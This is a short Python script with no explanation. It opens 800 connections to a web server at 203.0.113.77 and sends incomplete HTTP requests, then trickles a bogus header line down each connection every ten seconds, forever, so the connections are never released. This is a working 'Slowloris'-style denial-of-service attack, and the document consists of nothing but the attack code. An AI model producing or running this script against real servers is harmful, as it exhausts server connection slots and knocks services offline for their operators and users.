import socket, time
socks = []
for _ in range(800):
    s = socket.create_connection(("203.0.113.77", 80))
    s.send(b"GET / HTTP/1.1\r\nHost: v\r\n")
    socks.append(s)
while True:
    for s in socks: s.send(b"X-a: b\r\n")
    time.sleep(10)
